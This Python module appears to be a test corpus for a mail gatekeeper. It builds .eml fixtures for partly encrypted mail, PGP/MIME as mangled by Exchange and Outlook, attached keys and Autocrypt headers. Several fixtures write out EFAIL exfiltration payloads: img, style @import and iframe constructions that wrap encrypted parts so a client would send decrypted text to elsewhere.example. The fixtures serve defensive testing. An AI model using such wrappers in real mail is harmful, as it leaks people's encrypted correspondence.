"""Mails that are encrypted in part, and PGP/MIME that mail systems took apart."""

import base64
from typing import Final, Unpack

from gatekeeper.domain.protection import SignatureState, UnreadableReason
from tests.corpus.classes import Class
from tests.corpus.entities import (
    CONTROL,
    HELLO,
    TEXT,
    attached,
    changed,
    crlf,
    head,
    html,
    multipart,
    octets,
    pgp_mime,
    protected,
    signed,
    text,
)
from tests.corpus.expecting import (
    BODY,
    FILE,
    SUBJECT,
    Cases,
    Found,
    Message,
    Values,
    by,
    closed,
    opened,
)
from tests.corpus.pen import Pen
from tests.corpus.people import ANDREA, EVE, KIM
from tests.corpus.sound import INLINE, WORDS

_S: Final = SignatureState
CASES: Final = Cases(".eml")
MANGLED: Final = "mangled"
EMPTY: Final = b"Content-Type: text/plain\r\n\r\n\r\n"


def part(number: int = 1, *, stayed: int = 0, **more: Unpack[Values]) -> Message:
    """Return the verdict on a mail that is encrypted in part."""
    usual: Values = {"encryption": "part", "pieces": (number, stayed), "shows": "Hello"}
    return Message(**(usual | more))


@CASES.add(part(hides=BODY), Class.PIECES, Class.HALF_CLEAR)
def _file_encrypted(pen: Pen) -> bytes:
    """A hello in clear, and a file that is encrypted."""
    file = attached(pen.encrypt_binary(b"%PDF-1.4 " + BODY.encode()), f"{FILE}.pdf.gpg")
    return head() + multipart("mixed", HELLO, file)


@CASES.add(part(), Class.PIECES, Class.HALF_CLEAR)
def _file_encrypted_in_armor(pen: Pen) -> bytes:
    """The same in armor, under the type of a text."""
    said = b'Content-Type: text/plain; name="poc.asc"\r\n'
    said += b'Content-Disposition: attachment; filename="poc.asc"\r\n\r\n'
    return head() + multipart("mixed", HELLO, said + pen.encrypt(WORDS))


@CASES.add(part(), Class.PIECES, Class.HALF_CLEAR, Class.EFAIL)
def _armor_in_a_text(pen: Pen) -> bytes:
    """An armored message between lines in clear."""
    return head() + INLINE + b"Hello,\r\n\r\n" + pen.encrypt(WORDS) + b"\r\nBye.\r\n"


@CASES.add(part(signatures=(by("robin", covers="part"),)), Class.PIECES, Class.PART_SIGNED)
def _file_encrypted_and_signed(pen: Pen) -> bytes:
    """A file that is encrypted and signed by the known reporter, in a mail that is neither."""
    file = attached(pen.encrypt_binary(WORDS, by="robin"), "poc.gpg")
    return head() + multipart("mixed", HELLO, file)


@CASES.add(opened(problems=("mangled", "winmail.dat")), Class.ENVELOPE)
def _outlook_winmail(pen: Pen) -> bytes:
    """What Outlook makes of it, with a winmail.dat beside."""
    winmail = attached(b"\x78\x9f\x3e\x22" + bytes(60), "winmail.dat", "application/ms-tnef")
    parts = (EMPTY, CONTROL, octets(pen.encrypt(TEXT), "encrypted.asc"), winmail)
    return head() + multipart("mixed", *parts)


@CASES.add(part(2), Class.PIECES, Class.TWO_PLAINTEXTS)
def _two_armors_in_a_text(pen: Pen) -> bytes:
    """Two armored messages in one text, each opened on its own."""
    both = pen.encrypt(WORDS) + pen.encrypt(b"and more\n")
    return head() + INLINE + b"Hello,\r\n\r\n" + both


@CASES.add(part(2, shows=""), Class.PIECES, Class.TWO_PLAINTEXTS)
def _two_armors_alone(pen: Pen) -> bytes:
    """Two armored messages that are the whole text body; neither is the whole mail."""
    return head() + INLINE + pen.encrypt(WORDS) + pen.encrypt(b"and more\n")


@CASES.add(part(0, stayed=1), Class.PIECES, Class.ORACLE)
def _file_for_another(pen: Pen) -> bytes:
    """A hello in clear, and a file that is encrypted to somebody else."""
    file = attached(pen.encrypt_binary(WORDS, to="eve"), "poc.gpg")
    return head() + multipart("mixed", HELLO, file)


@CASES.add(part(20, stayed=1), Class.PIECES, Class.DEEP)
def _pieces_25(pen: Pen) -> bytes:
    """Twenty-five encrypted files, more than are opened."""
    files = [attached(pen.encrypt_binary(WORDS), f"{number}.gpg") for number in range(25)]
    return head() + multipart("mixed", HELLO, *files)


@CASES.add(part(), Class.PIECES, Class.ENVELOPE)
def _encrypted_below(pen: Pen) -> bytes:
    """A multipart/encrypted that is not the root."""
    return head() + multipart("mixed", HELLO, pgp_mime(pen.encrypt(TEXT)))


@CASES.add(part(), Class.PIECES)
def _forwarded_encrypted(pen: Pen) -> bytes:
    """An encrypted mail forwarded as message/rfc822."""
    mail = head(sender=EVE) + pgp_mime(pen.encrypt(TEXT))
    inside = b"Content-Type: message/rfc822\r\n\r\n" + mail
    return head() + multipart("mixed", HELLO, inside)


@CASES.add(part(), Class.PIECES)
def _forwarded_inline(pen: Pen) -> bytes:
    """A mail with an armored message as its text, forwarded as message/rfc822."""
    mail = head(sender=EVE) + INLINE + pen.encrypt(WORDS)
    inside = b"Content-Type: message/rfc822\r\n\r\n" + mail
    return head() + multipart("mixed", HELLO, inside)


@CASES.add(part(), Class.PIECES)
def _quoted_armor(pen: Pen) -> bytes:
    """An armored message quoted in an answer."""
    quoted = b"\r\n".join(b"> " + line for line in pen.encrypt(WORDS).split(b"\r\n"))
    return head() + INLINE + b"Hello, you wrote:\r\n" + quoted + b"\r\n"


@CASES.add(opened(pieces=(1, 0)), Class.PIECES, Class.NESTED)
def _piece_inside(pen: Pen) -> bytes:
    """An encrypted file inside an encrypted mail."""
    inside = multipart("mixed", TEXT, attached(pen.encrypt_binary(WORDS), "inner.gpg"))
    return head() + pgp_mime(pen.encrypt(inside))


@CASES.add(part(hides=BODY), Class.EFAIL, Class.HTML, Class.HALF_CLEAR)
def _efail_image(pen: Pen) -> bytes:
    """EFAIL: an image whose address opens before the encrypted part and closes after it."""
    before = html("Hello <img src='https://elsewhere.example/")
    after = html("'>")
    return head() + multipart("mixed", before, pgp_mime(pen.encrypt(TEXT)), after)


@CASES.add(
    Message(encryption="part", pieces=(0, 1), shows="Hello", hides=BODY), Class.EFAIL, Class.HTML
)
def _efail_inline(pen: Pen) -> bytes:
    """EFAIL: the armored message inside a page, in the address of an image."""
    armor = pen.encrypt(WORDS).decode()
    page = f'<p>Hello</p><img src="https://elsewhere.example/\r\n{armor}\r\n">'
    return head() + html(page)


@CASES.add(part(hides=BODY), Class.EFAIL, Class.HTML)
def _efail_related(pen: Pen) -> bytes:
    """EFAIL: an encrypted part that a page shows in a frame, in multipart/related."""
    page = html('<p>Hello</p><iframe src="cid:secret"></iframe>')
    return head() + multipart("related", page, pgp_mime(pen.encrypt(TEXT)))


@CASES.add(part(hides=BODY), Class.EFAIL)
def _efail_style(pen: Pen) -> bytes:
    """EFAIL: a style sheet around the encrypted part, in multipart/alternative."""
    before = html("Hello <style>@import url('https://elsewhere.example/")
    mail = multipart("alternative", before, pgp_mime(pen.encrypt(TEXT)), html("');</style>"))
    return head() + mail


@CASES.add(part(shows="", stayed=0), Class.HALF_CLEAR, Class.EFAIL)
def _three_parts_encrypted(pen: Pen) -> bytes:
    """multipart/encrypted with a third part in clear."""
    parts = (CONTROL, octets(pen.encrypt(TEXT)), text(b"in clear\r\n"))
    return head() + multipart("encrypted", *parts)


@CASES.add(opened(problems=("one part",)), Class.ONE_PART, Class.ENVELOPE)
def _one_part(pen: Pen) -> bytes:
    """multipart/encrypted without its control part."""
    return head() + multipart("encrypted", octets(pen.encrypt(TEXT)))


@CASES.add(opened(problems=("control part",)), Class.ONE_PART, Class.ENVELOPE)
def _two_octets(pen: Pen) -> bytes:
    """multipart/encrypted whose control part became octets."""
    return head() + multipart("encrypted", octets(b"Version: 1\r\n"), octets(pen.encrypt(TEXT)))


@CASES.add(closed(UnreadableReason.MALFORMED), Class.ONE_PART, Class.ENVELOPE, Class.ORACLE)
def _no_parts(_: Pen) -> bytes:
    """multipart/encrypted that holds nothing."""
    return head() + b'Content-Type: multipart/encrypted; boundary="m1"\r\n\r\n--m1--\r\n'


@CASES.add(closed(UnreadableReason.MALFORMED), Class.ONE_PART, Class.ENVELOPE)
def _control_only(_: Pen) -> bytes:
    """multipart/encrypted with the control part alone."""
    return head() + multipart("encrypted", CONTROL)


@CASES.add(opened(problems=(MANGLED,)), Class.ENVELOPE)
def _exchange(pen: Pen) -> bytes:
    """What Exchange makes of it: multipart/mixed with an empty text before the two parts."""
    parts = (EMPTY, CONTROL, octets(pen.encrypt(TEXT), "encrypted.asc"))
    return head() + multipart("mixed", *parts)


@CASES.add(opened(problems=(MANGLED,)), Class.ENVELOPE)
def _exchange_html(pen: Pen) -> bytes:
    """The same with an empty page instead of the text."""
    page = html('<html><body><div style="font-family:Calibri"><br></div></body></html>')
    parts = (page, CONTROL, octets(pen.encrypt(TEXT), "encrypted.asc"))
    return head() + multipart("mixed", *parts)


@CASES.add(opened(problems=(MANGLED,)), Class.ENVELOPE)
def _exchange_base64(pen: Pen) -> bytes:
    """The same with both parts in base64 under names, as some gateways write them."""
    control = attached(b"Version: 1\r\n", "PGPMIME version identification.dat")
    control = changed(control, b"application/octet-stream", b"application/pgp-encrypted")
    message = attached(pen.encrypt(TEXT), "encrypted.asc")
    return head() + multipart("mixed", EMPTY, control, message)


@CASES.add(opened(problems=(MANGLED,)), Class.ENVELOPE)
def _outlook(pen: Pen) -> bytes:
    """What Outlook makes of it: the control part is octets with a telling name."""
    control = octets(b"Version: 1\r\n", "PGPMIME Versions Identification")
    message = octets(pen.encrypt(TEXT), "encrypted.asc")
    return head() + multipart("mixed", EMPTY, control, message)


@CASES.add(
    opened(signatures=(by("robin"),), confirmed=True, problems=(MANGLED,), subject=SUBJECT),
    Class.ENVELOPE,
    Class.INNER_WINS,
)
def _exchange_signed(pen: Pen) -> bytes:
    """An Exchange-mangled mail that is signed and protects its subject."""
    message = octets(pen.encrypt(protected(), by="robin"), "encrypted.asc")
    return head() + multipart("mixed", EMPTY, CONTROL, message)


@CASES.add(part(), Class.ENVELOPE, Class.HALF_CLEAR)
def _exchange_with_a_text(pen: Pen) -> bytes:
    """Like Exchange's, but with words in the text: then it is a mail in clear with a piece."""
    parts = (HELLO, CONTROL, octets(pen.encrypt(TEXT), "encrypted.asc"))
    return head() + multipart("mixed", *parts)


@CASES.add(opened(signatures=(Found(status=_S.UNKNOWN_SIGNER),)), Class.ENVELOPE, Class.SOUND)
def _wrong_protocol(pen: Pen) -> bytes:
    """multipart/encrypted that names another protocol; its parts say what it is."""
    more = '; protocol="application/x-unknown"'
    parts = (CONTROL, octets(pen.encrypt(TEXT, by="eve")))
    return head() + multipart("encrypted", *parts, more=more)


@CASES.add(opened(), Class.ENVELOPE, Class.CHARSET)
def _quoted_printable(pen: Pen) -> bytes:
    """The encrypted part in quoted-printable, as some gateways write it."""
    armor = pen.encrypt(TEXT).replace(b"=", b"=3D")
    said = b"Content-Type: application/octet-stream\r\n"
    said += b"Content-Transfer-Encoding: quoted-printable\r\n\r\n"
    return head() + multipart("encrypted", CONTROL, said + armor)


@CASES.add(opened(), Class.ENVELOPE)
def _binary_message(pen: Pen) -> bytes:
    """The encrypted part without armor, in base64."""
    message = attached(pen.encrypt_binary(TEXT), "encrypted.pgp")
    return head() + multipart("encrypted", CONTROL, message)


def _key(pen: Pen, kind: str, name: str, data: bytes) -> bytes:
    return head(sender=KIM) + multipart("mixed", TEXT, attached(data, name, kind))


@CASES.add(Message(), Class.KEY_ATTACHED)
def _key_as_octets(pen: Pen) -> bytes:
    """A plain report with the reporter's key as application/octet-stream."""
    return _key(pen, "application/octet-stream", "kim.asc", pen.block("kim"))


@CASES.add(Message(), Class.KEY_ATTACHED)
def _key_as_keys(pen: Pen) -> bytes:
    """The same as application/pgp-keys."""
    return _key(pen, "application/pgp-keys", "0x01.asc", pen.block("kim"))


@CASES.add(Message(), Class.KEY_ATTACHED)
def _key_as_text(pen: Pen) -> bytes:
    """The same as an attached text."""
    return _key(pen, "text/plain", "key.txt", pen.block("kim"))


@CASES.add(Message(), Class.KEY_ATTACHED)
def _key_binary(pen: Pen) -> bytes:
    """The same without armor."""
    return _key(pen, "application/octet-stream", "kim.gpg", pen.keys["kim"].public)


@CASES.add(Message(), Class.KEY_ATTACHED)
def _key_as_encrypted(pen: Pen) -> bytes:
    """The same under the type application/pgp-encrypted, which it is not."""
    return _key(pen, "application/pgp-encrypted", "kim.asc", pen.block("kim"))


@CASES.add(Message(), Class.KEY_ATTACHED)
def _key_in_the_text(pen: Pen) -> bytes:
    """The key below the text."""
    return head(sender=KIM) + TEXT + b"\r\n" + pen.block("kim")


@CASES.add(Message(), Class.KEY_ATTACHED, Class.SECRET)
def _secret_key_attached(pen: Pen) -> bytes:
    """A plain report with the reporter's SECRET key attached, by mistake."""
    secret = pen.gpg("--armor", "--export-secret-keys", pen.keys["kim"].fingerprint)
    return _key(pen, "application/pgp-keys", "kim.asc", secret)


def _autocrypt(pen: Pen, owner: str, address: str) -> str:
    data = base64.b64encode(pen.keys[owner].public).decode()
    lines = "\r\n ".join(data[at : at + 70] for at in range(0, len(data), 70))
    return f"Autocrypt: addr={address}; keydata=\r\n {lines}"


@CASES.add(Message(), Class.AUTOCRYPT)
def _autocrypt_field(pen: Pen) -> bytes:
    """A plain report with an Autocrypt field for its From."""
    field = _autocrypt(pen, "kim", "kim@finder.example")
    return head(field, sender=KIM) + TEXT


@CASES.add(Message(), Class.AUTOCRYPT, Class.PARTNERS_KEY)
def _autocrypt_for_another(pen: Pen) -> bytes:
    """An Autocrypt field that offers a stranger's key for a colleague's address."""
    field = _autocrypt(pen, "eve", "andrea@team.example")
    return head(field, sender=ANDREA) + TEXT


@CASES.add(opened(signatures=(by("eve", agrees=False),)), Class.PARTNERS_KEY, Class.KEY_ATTACHED)
def _partners_second_key(pen: Pen) -> bytes:
    """From a colleague, signed by a stranger, with the stranger's key attached as theirs."""
    inside = multipart("mixed", TEXT, attached(pen.block("eve"), "andrea.asc"))
    return head(sender=ANDREA) + pgp_mime(pen.encrypt(inside, by="eve"))


@CASES.add(part(shows=""), Class.PIECES, Class.HTML)
def _armor_in_a_page(pen: Pen) -> bytes:
    """An armored message as the only content of a page, in <pre>, as web mail writes it."""
    return head() + html(
        f"<html><body><pre>{crlf(pen.encrypt(WORDS)).decode()}</pre></body></html>"
    )


@CASES.add(Message(shows="Hello"), Class.PIECES, Class.PART_SIGNED)
def _signed_file(pen: Pen) -> bytes:
    """A file with its detached signature beside it, as releases have."""
    file = attached(b"a release\n", "release.tar")
    signature = attached(pen.sign(b"a release\n"), "release.tar.asc")
    return head() + multipart("mixed", HELLO, file, signature)


@CASES.add(part(signatures=(by("andrea", covers="part"),)), Class.PART_SIGNED, Class.PIECES)
def _signed_below_encrypted(pen: Pen) -> bytes:
    """A signed entity and an encrypted one beside a text."""
    inside = (HELLO, signed(TEXT, pen.sign(TEXT)), pgp_mime(pen.encrypt(INLINE + WORDS)))
    return head(sender=ANDREA) + multipart("mixed", *inside)
